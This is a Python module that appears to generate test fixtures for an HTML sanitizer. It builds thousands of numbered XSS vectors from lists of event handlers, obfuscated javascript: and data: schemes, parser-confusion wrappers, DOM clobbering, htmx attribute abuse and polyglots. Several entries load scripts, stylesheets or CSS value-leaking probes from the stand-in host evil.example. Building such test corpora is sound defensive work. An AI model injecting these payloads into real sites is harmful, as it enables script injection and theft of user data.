"""Thousands of pieces of hostile HTML, the same at every run: the cross product of what carries a trick and of tricks.

Each calls `alert` with its own number where it gets through (`{n}`), or asks a host that no picture stands on (EVIL).
Pictures that may be asked for stand on IMAGES. All of them were written for this project; `make vectors` brings those
of other projects beside them.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from html import escape

EVIL = "https://evil.example"
IMAGES = "https://images.example"

SCRIPT = "alert({n})"
EVENTS = (
    "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut "
    "beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect begin blur bounce cancel "
    "canplay canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu "
    "contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop "
    "durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture "
    "hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadend loadstart "
    "lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel "
    "offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave "
    "pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize "
    "scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange "
    "selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart "
    "transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting wheel"
).split()
HOSTS_OF_EVENTS = ("<div on{e}={s}>x</div>", "<a href=# on{e}={s}>x</a>", "<table on{e}={s}><td on{e}={s}>x</table>")
SELF_FIRING = (
    ("img src=x", "error"),
    ("image src=x", "error"),
    ("svg", "load"),
    ("body", "load"),
    ("body", "pageshow"),
    ("iframe", "load"),
    ("details open", "toggle"),
    ("input autofocus", "focus"),
    ("textarea autofocus", "focus"),
    ("select autofocus", "focus"),
    ("button autofocus", "focus"),
    ("a tabindex=1 autofocus", "focus"),
    ("div contenteditable autofocus", "focus"),
    ("marquee", "start"),
    ("marquee width=1 loop=1", "bounce"),
    ("style", "load"),
    ("link rel=stylesheet href=data:text/css,", "load"),
    ("script src=data:,x", "load"),
    ("object data=x:", "error"),
    ("embed src=/x", "load"),
    ("video src=x", "error"),
    ("audio src=x", "error"),
    ("video><source src=x", "error"),
    ("video autoplay src=x", "loadstart"),
    ("input type=image src=x", "error"),
    ("svg><animate attributeName=x dur=1s", "begin"),
    ("svg><set attributeName=x dur=1s", "begin"),
    ("svg><image href=x", "error"),
    ("svg><script href=data:,x", "load"),
    ("svg><style", "load"),
    ("math><mtext><img src=x", "error"),
    ("svg><foreignObject><img src=x", "error"),
    ("p style=animation-name:x;animation-duration:1s", "animationstart"),
    ("p style=display:block;content-visibility:auto", "contentvisibilityautostatechange"),
    ("xss tabindex=1 autofocus", "focus"),
    ("dialog open autofocus tabindex=1", "focus"),
    ("meter tabindex=1 autofocus", "focus"),
    ("frameset", "load"),
    ("img srcset=x", "error"),
    ("picture><source srcset=x><img", "error"),
)
SYNTAXES = (
    "<{t} on{e}={s}>",
    '<{t} on{e}="{s}">',
    "<{t} on{e}='{s}'>",
    "<{t} ON{E}={s}>",
    "<{t}/on{e}={s}>",
    "<{t}\non{e}\n=\n{s}>",
    "<{t}\x0con{e}={s}\x0c>",
    "<{t} on{e}={s}//",
    "<{t} on{e}={s} <",
    "<{t} x=1 x=2 on{e}={s} on{e}=1>",
    '<{t} title="a"on{e}={s}>',
    "<{t} on{e}=&#97;lert({n})>",
    "<{t} on{e}=&#x61;lert&lpar;{n}&rpar;>",
    "<{t} on{e}=\\u0061lert({n})>",
    "<{t} \x00on{e}={s}>",
    "<{t} =on{e}= on{e}={s}>",
    "<<{t} on{e}={s}>",
    '"><{t} on{e}={s}>',
    "<x <{t} on{e}={s}>",
    "<p title='`'><{t} title=` on{e}={s}>",
)
SCHEMES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    " javascript:alert({n})",
    "\x01javascript:alert({n})",
    "\x1f\tjavascript:alert({n})",
    "java\tscript:alert({n})",
    "java\nscript:alert({n})",
    "java\rscript:alert({n})",
    "javascript\t:alert({n})",
    "&#106;avascript:alert({n})",
    "&#x6A;avascript:alert({n})",
    "&#0000106avascript:alert({n})",
    "&#x6Aavascript:alert({n})",
    "javascript&colon;alert({n})",
    "java&Tab;script:alert({n})",
    "java&NewLine;script:alert({n})",
    "&#1;javascript:alert({n})",
    "javascript:%61lert({n})",
    "javascript://%0aalert({n})",
    "javascript:/*--></script>*/alert({n})",
    "javascript:'<script>alert({n})</script>'",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert({n})'/>",
    "vbscript:alert({n})",
    "feed:javascript:alert({n})",
    "view-source:javascript:alert({n})",
    "//images.example\\@/",
    "filesystem:https://evil.example/x",
)
ADDRESSES = (
    "<a href={u}>x</a>",
    "<a ping={u} href=#>x</a>",
    "<map><area href={u}></map>",
    "<base href={u}>",
    "<form action={u}><button>x</button></form>",
    "<form><button formaction={u}>x</button></form>",
    "<form><input type=submit formaction={u}></form>",
    "<input type=image src={u}>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc={u}></iframe>",
    "<embed src={u}>",
    "<object data={u}></object>",
    "<object><param name=movie value={u}></object>",
    "<img src={u}>",
    "<img srcset={u}>",
    "<img longdesc={u} dynsrc={u} lowsrc={u} usemap={u}>",
    "<picture><source srcset={u}><img></picture>",
    "<video src={u}></video>",
    "<video poster={u}></video>",
    "<video><source src={u}></video>",
    "<video><track src={u} default></video>",
    "<audio src={u} autoplay></audio>",
    "<link rel=stylesheet href={u}>",
    "<meta http-equiv=refresh content='0;url={v}'>",
    "<body background={u}>",
    "<table background={u}><td background={u}>x</table>",
    "<blockquote cite={u}>x</blockquote>",
    "<q cite={u}>x</q>",
    "<ins cite={u}>x</ins>",
    "<svg><a xlink:href={u}><text>x</text></a></svg>",
    "<svg><a href={u}><text y=9>x</text></a></svg>",
    "<svg><use href={u}></use></svg>",
    "<svg><image href={u}></image></svg>",
    "<svg><script href={u}></script></svg>",
    "<svg><a><animate attributeName=href values={u}></animate><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=xlink:href to={u}></set><text y=9>x</text></a></svg>",
    "<math href={u}>x</math>",
    "<math><mi xlink:href={u}>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href={u}>x</maction></math>",
    "<frameset><frame src={u}></frameset>",
    "<applet code={u}></applet>",
    "<bgsound src={u}>",
    "<isindex action={u}>",
    "<p style=\"background:url('{v}')\">x</p>",
    "<div data-src={u} data-href={u}>x</div>",
    "<portal src={u}></portal>",
    "<a href={u} target=_top download>x</a>",
    "<fencedframe src={u}></fencedframe>",
)
PAYLOADS = (
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<script>alert({n})</script>",
    "<details open ontoggle=alert({n})>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
)
SWALLOWERS = (
    "title textarea style script xmp noembed noframes noscript iframe template plaintext select option button table "
    "caption colgroup svg math mglyph malignmark mtext annotation-xml foreignObject desc form a p object marquee font"
).split()
FAMILIES = (
    "<{w}>{p}</{w}>",
    "<{w}><{w}></{w}>{p}",
    '<{w}><p title="</{w}>{p}">',
    '<{w}><a id="</{w}>{p}"></a></{w}>',
    "<{w}><!--</{w}>{p}-->",
    '<svg><{w}><p title="</{w}>{p}">',
    '<math><{w}><p title="</{w}>{p}">',
    '<svg></p><{w}><a id="</{w}>{p}">',
    '<math><mtext><table><mglyph><{w}><!--</{w}><img title="--&gt;{q}">',
    "<form><math><mtext></form><form><mglyph><{w}></math>{p}",
    "<table><{w}><tr><td>{p}</{w}></table>",
    '<svg><desc><{w}><p title="</{w}>{p}"></desc></svg>',
    '<math><annotation-xml encoding="text/html"><{w}>{p}</{w}></annotation-xml></math>',
    "<select><{w}>{p}</{w}></select>",
    "<a><table><{w}><a>{p}</table>",
)
BREAKOUTS = (
    "<!-->{p}-->",
    "<!--->{p}-->",
    "<!-- --!>{p}-->",
    "<!-- a -- b >{p}-->",
    "<!--<!-- -->{p}-->",
    "<!-{p}>",
    "<![CDATA[{p}]]>",
    "<svg><![CDATA[</svg>{p}]]></svg>",
    "<svg><![CDATA[><image href='x' onerror=alert({n})>]]></svg>",
    "<?xml {p}?>",
    "<?php echo '{p}'; ?>",
    "<!doctype [<!entity x '{p}'>]>&x;",
    "<!DOCTYPE html>{p}",
    "</{p}",
    "</p title='>{p}'>",
    "<% {p} %>",
    "]]>{p}",
    "--&gt;{p}",
    "<scr<script>ipt>{p}</scr</script>ipt>",
    "<b><p></b>{p}",
    "<div title='a\n\n{p}'></div>",
    "<div title=&quot;>{p}",
    '<p title="&quot;>{q}">x</p>',
    '<img src=x alt="{q}">',
    '<abbr title="&lt;/abbr&gt;{q}">x</abbr>',
    "&lt;{p}&gt;",
    "{q}",
    "<p>{q}</p>",
    "<textarea>{q}</textarea>",
    "<html><head>{p}</head><body>{p}</body></html>",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-{p}",
    "\ufeff{p}",
    "<\x00{p}",
    "<div><template shadowrootmode=open>{p}</template></div>",
    "<div><template shadowroot=open>{p}</template></div>",
    "<p is=x-{n}>{p}</p>",
    "<table><tr>{p}<td></table>",
    "<ruby><rt>{p}<rb></ruby>",
    "<li>{p}<li>",
    "<marquee><{p}",
)
NAMES = (
    "body forms status q location document results problem feed more results-heading htmx alert cookie getElementById "
    "querySelector children attributes parentNode firstChild ownerDocument __proto__ main settings search"
).split()
CLOBBERS = (
    "<a id={i}>x</a>",
    "<a id={i}></a><a id={i} name=value href='x:alert({n})'></a>",
    "<img name={i}>",
    "<form id={i}><input name=action><input name={i} autofocus></form>",
    "<iframe name={i} srcdoc='<a id=x>'></iframe>",
    "<object id={i} name={i}></object>",
    "<embed name={i}>",
    "<p id={i} role=alert aria-live=assertive>stolen</p><a href='#{i}'>x</a>",
    "<div id={i} hx-swap-oob=true data-hx-swap-oob=true>stolen</div>",
)
HTMX = (
    "get=/fragments/entries {}trigger=load {}target=body",
    "post=/x {}trigger=load",
    "put=/x {}trigger=revealed",
    "patch=/x {}trigger='every 1s'",
    "delete=/x {}trigger=intersect",
    "on:click=alert({n})",
    "on::load=alert({n})",
    "on:htmx:load=alert({n})",
    "on--after-process=alert({n})",
    "on='click: alert({n})'",
    "trigger='load[alert({n})]' {}get=/x",
    "vals='js:{{a:alert({n})}}' {}get=/x {}trigger=load",
    "vars='a:alert({n})' {}get=/x {}trigger=load",
    "headers='js:{{a:alert({n})}}' {}get=/x {}trigger=load",
    "swap-oob=true id=status",
    "swap-oob='innerHTML:#status'",
    "swap-oob='outerHTML:body'",
    "swap-oob=beforeend:#feed",
    "swap-oob=delete id=results",
    "select-oob=#status {}get=/ {}trigger=load",
    "boost=true href=/",
    "ext=sse {}sse=connect:/x sse-connect=/x",
    "ext=ws ws-connect=wss://evil.example/",
    "preload=mouseenter {}get=/x",
    "push-url=/stolen {}get=/ {}trigger=load",
    "replace-url=/stolen {}get=/ {}trigger=load",
    "history-elt id=main",
    "include=* {}get=https://evil.example/ {}trigger=load",
    "confirm=stolen {}get=/x {}trigger=load",
    "prompt=stolen {}get=/x {}trigger=load",
    "action=/x {}method=get {}trigger=load",
    "config='{{\"a\":1}}' {}get=/x {}trigger=load",
    "status:404=target:body {}get=/none {}trigger=load",
    "partial id=results",
    "live='alert({n})'",
    "init='alert({n})'",
)
HTMX_CARRIERS = ("<p {a}>x</p>", "<a {a}>x</a>", "<img src=x {a}>", "<template {a}>x</template>", "<svg {a}></svg>")
PARTIALS = (
    "<hx-partial {}target=#results><p id=results>stolen</p></hx-partial>",
    "<hx-partial {}target=#status {}swap=innerHTML>stolen</hx-partial>",
    "<template hx type=partial {}target=body>stolen</template>",
    "<template {}target=body><title>stolen</title></template>",
    "<htmx-partial {}target=#results>stolen</htmx-partial>",
)
THEFTS = (
    "<title>stolen {n}</title>",
    "<svg><title>stolen {n}</title></svg>",
    "<base href=https://evil.example/><img src=a>",
    "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=/stolen'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<meta name=referrer content=unsafe-url>",
    "<meta name=htmx-config content='{{}}'>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta name=theme-color content=red><meta name=color-scheme content=dark>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=preload as=image href=https://evil.example/x>",
    "<link rel=modulepreload href=https://evil.example/x.js>",
    "<link rel=preconnect href=https://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=prerender href=https://evil.example/>",
    "<link rel=icon href=https://evil.example/x>",
    "<link rel=manifest href=https://evil.example/x>",
    "<link rel=preload as=image imagesrcset=https://evil.example/x>",
    '<script type=importmap>{{"imports":{{"x":"https://evil.example/x.js"}}}}</script>',
    '<script type=speculationrules>{{"prefetch":[{{"urls":["https://evil.example/x"]}}]}}</script>',
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script async src=//evil.example/x.js>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{{background:url(https://evil.example/x)}}</style>",
    "<style>body{{display:none}}</style>",
    "<style>input[value^=a]{{background:url(https://evil.example/a)}}</style>",
    "<svg><style>*{{background:url(https://evil.example/x)}}</style></svg>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style=\"background:image-set('https://evil.example/x' 1x)\">x</p>",
    "<p style='position:fixed;inset:0;background:red;z-index:9'>x</p>",
    "<font style=cursor:url(https://evil.example/x),auto>x</font>",
    "<ul style=list-style:url(https://evil.example/x)><li>x</ul>",
    "<table background=https://evil.example/x><tr background=https://evil.example/x><td>x</table>",
    "<body background=https://evil.example/x>",
    "<input type=image src=https://evil.example/x>",
    "<video autoplay src=https://evil.example/x></video>",
    "<audio autoplay src=https://evil.example/x></audio>",
    "<video preload=auto><source src=https://evil.example/x></video>",
    "<video><track default src=https://evil.example/x></video>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<img src=https://evil.example/x>'></iframe>",
    "<embed src=https://evil.example/x>",
    "<object data=https://evil.example/x></object>",
    "<object type=text/html data=https://evil.example/x></object>",
    "<applet code=x archive=https://evil.example/x></applet>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<svg><image href=https://evil.example/x /></svg>",
    "<svg><image xlink:href=https://evil.example/x /></svg>",
    "<svg><use href=https://evil.example/x#a /></svg>",
    "<svg><filter id=f><feImage href=https://evil.example/x /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><script href=https://evil.example/x.js></script></svg>",
    "<svg><rect fill=url(https://evil.example/x#a) width=9 height=9 /></svg>",
    "<svg><mask id=m><image href=https://evil.example/x /></mask></svg>",
    "<img src=https://images.example/x crossorigin attributionsrc=https://evil.example/x>",
    "<a href=https://evil.example/ attributionsrc=https://evil.example/x ping=https://evil.example/p>x</a>",
    "<form action=https://evil.example/><input name=q autofocus><button accesskey=s>x</button></form>",
    "<form id=search></form><button form=search formaction=https://evil.example/>x</button>",
    "<input form=search name=q value=stolen><input form=filters name=tag value=stolen>",
    "<button popovertarget=settings popovertargetaction=show>x</button><div popover id=settings>stolen</div>",
    "<button command=show-modal commandfor=d{n}>x</button><dialog id=d{n} open>stolen</dialog>",
    "<dialog open><form method=dialog><button autofocus>x</button></form></dialog>",
    "<p autofocus tabindex=0>x</p>",
    "<p contenteditable autofocus>x</p>",
    "<p tabindex=1 accesskey=s>x</p>",
    "<p role=alert aria-live=assertive aria-atomic=true>stolen</p>",
    "<p id=status role=status>stolen</p>",
    "<p aria-hidden=true inert hidden>x</p>",
    "<h1 id=results-heading>stolen</h1>",
    "<main id=main tabindex=-1>stolen</main>",
    "<div class=vh data-status=stolen data-next=/x>x</div>",
    "<article id=entry-1 role=article aria-posinset=1>x</article>",
    "<label for=q>stolen</label>",
    "<slot name=x>x</slot><p slot=x>x</p>",
    "<feedsift-entries site=https://evil.example/></feedsift-entries>",
    "<math><mtext><p id=status>stolen</p></mtext></math>",
    "<img src=https://images.example/x width=1 height=1 referrerpolicy=unsafe-url>",
    "<img src=https://images.example/x loading=eager fetchpriority=high decoding=sync>",
    "<img src=https://images.example/x onload=alert({n})>",
    "<img src=https://images.example/x style='width:1px;height:1px'>",
    "<video poster=https://images.example/x onplay=alert({n}) autoplay muted loop></video>",
    "<a href='https://a.example/' target=_top rel=opener>x</a>",
    "<a href=https://a.example/ download=x.exe>x</a>",
    "<a href='#status'>x</a><p id=status>stolen</p>",
    "<a href='#q' autofocus>x</a><p id=q name=q>stolen</p>",
    "\u202estolen",
    "\u2067stolen\u202d",
    "<p>\u202dx</p>\u202e",
)
POLYGLOTS = (
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert({n})//'>",
    "'\"--></style></script><svg onload=alert({n})>",
    "\"'><img src=x onerror=alert({n})>//`${{alert({n})}}`{{{{alert({n})}}}}",
    "<img src='x'onerror=alert({n})//'\"`><svg/onload=alert({n})>",
    "<a href='java\nscript:alert({n})'onmouseover='alert({n})'style='x:expression(alert({n}))'>x</a>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s><math><mtext><style><img src=x onerror=alert({n})>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert({n})</x:script>",
    "<div xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load ev:handler='javascript:alert({n})'>x</div>",
    "<xml><x><![CDATA[<img src=x onerror=alert({n})>]]></x></xml>",
    "<p style='behavior:url(#default#time2)' onbegin=alert({n})>x</p>",
    "<p style='x:expression(alert({n}))'>x</p>",
    "<p style=-moz-binding:url(https://evil.example/x.xml#x)>x</p>",
    "<comment><img src='</comment><img src=x onerror=alert({n})>'></comment>",
    "<listing>&lt;img src=x onerror=alert({n})&gt;</listing>",
    "<img src=x:alert(alt) onerror=eval(src) alt={n}>",
    "<input onfocus=alert({n}) autofocus><input onblur=alert({n}) autofocus>",
)


def all_of_them() -> list[str]:
    """Give every vector once. The number that one calls `alert` with is its place."""
    patterns = dict.fromkeys(_patterns())
    return [pattern.replace("\0N\0", str(number)) for number, pattern in enumerate(patterns)]


def some(number: int) -> list[tuple[int, str]]:
    """Give that many vectors with their places, the same at every run."""
    vectors = all_of_them()
    return [(place, vectors[place]) for place in sorted(random.Random(39).sample(range(len(vectors)), number))]


def _patterns() -> Iterator[str]:
    for pattern in (*_events(), *_addresses(), *_swallowed(), *_clobbering(), *_htmx(), *THEFTS, *POLYGLOTS):
        yield pattern.replace("{n}", "\0N\0").replace("{{", "{").replace("}}", "}")


def _events() -> Iterator[str]:
    for host in HOSTS_OF_EVENTS:
        yield from (host.replace("{e}", event).replace("{s}", SCRIPT) for event in EVENTS)
    for tag, event in SELF_FIRING:
        for syntax in SYNTAXES:
            named = syntax.replace("{e}", event).replace("{E}", event.upper())
            yield named.replace("{t}", tag).replace("{s}", SCRIPT)


def _addresses() -> Iterator[str]:
    for carrier in ADDRESSES:
        for scheme in SCHEMES:
            quoted = '"' + scheme.replace('"', "&quot;") + '"'
            yield carrier.replace("{u}", quoted).replace("{v}", scheme.replace("'", "&#39;"))


def _swallowed() -> Iterator[str]:
    for payload in PAYLOADS:
        wrappers = (family.replace("{w}", tag) for tag in SWALLOWERS for family in FAMILIES)
        for wrapper in (*wrappers, *BREAKOUTS):
            yield wrapper.replace("{p}", payload).replace("{q}", escape(payload))


def _clobbering() -> Iterator[str]:
    for pattern in CLOBBERS:
        yield from (pattern.replace("{i}", name) for name in NAMES)


def _htmx() -> Iterator[str]:
    for prefix in ("hx-", "data-hx-"):
        for attributes in HTMX:
            written = prefix + attributes.replace("{}", prefix)
            yield from (carrier.replace("{a}", written) for carrier in HTMX_CARRIERS)
        yield from (partial.replace("{}", prefix) for partial in PARTIALS)
